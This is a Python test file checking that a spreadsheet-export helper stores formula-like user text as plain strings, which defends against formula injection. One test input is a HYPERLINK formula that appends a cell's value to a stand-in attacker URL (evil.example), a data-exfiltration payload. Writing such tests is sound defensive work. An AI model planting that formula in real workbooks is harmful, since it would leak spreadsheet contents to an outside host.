"""Typed text never becomes a formula in an exported workbook (issue 8/10: formula injection)."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from govit.core.spreadsheets import row_append


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1+1", "\t=1"],
)
def test_formula_like_text_is_written_and_read_back_as_text(typed: str) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    row_append(sheet, ["项目", typed, 12, None])
    buffer = io.BytesIO()
    book.save(buffer)
    reread = load_workbook(io.BytesIO(buffer.getvalue()))
    cells = next(iter(reread.active.iter_rows(values_only=False)))  # type: ignore[union-attr]
    assert cells[1].value == typed
    assert cells[1].data_type == "s"  # a string cell, not a formula ("f")
    assert cells[2].value == 12 and cells[2].data_type == "n"


def test_plain_openpyxl_would_have_made_a_formula() -> None:
    """The hazard the helper exists for: without it openpyxl stores such text as a formula."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["=1+1"])
    assert sheet["A1"].data_type == "f"
